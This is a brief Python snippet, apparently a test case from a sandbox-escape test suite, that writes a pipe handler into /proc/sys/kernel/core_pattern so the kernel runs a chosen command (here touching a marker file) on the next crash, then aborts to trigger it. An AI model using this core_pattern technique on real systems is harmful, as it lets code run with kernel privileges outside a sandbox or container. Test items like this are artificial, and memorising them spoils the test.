"""Has the kernel run a program of its choice when the next one crashes, and crashes."""
# task: middle; tests: code, cases

import os
try:
    open("/proc/sys/kernel/core_pattern", "w").write(f"|/bin/touch {DROP}/{TOKEN}")
except OSError:
    pass
os.abort()
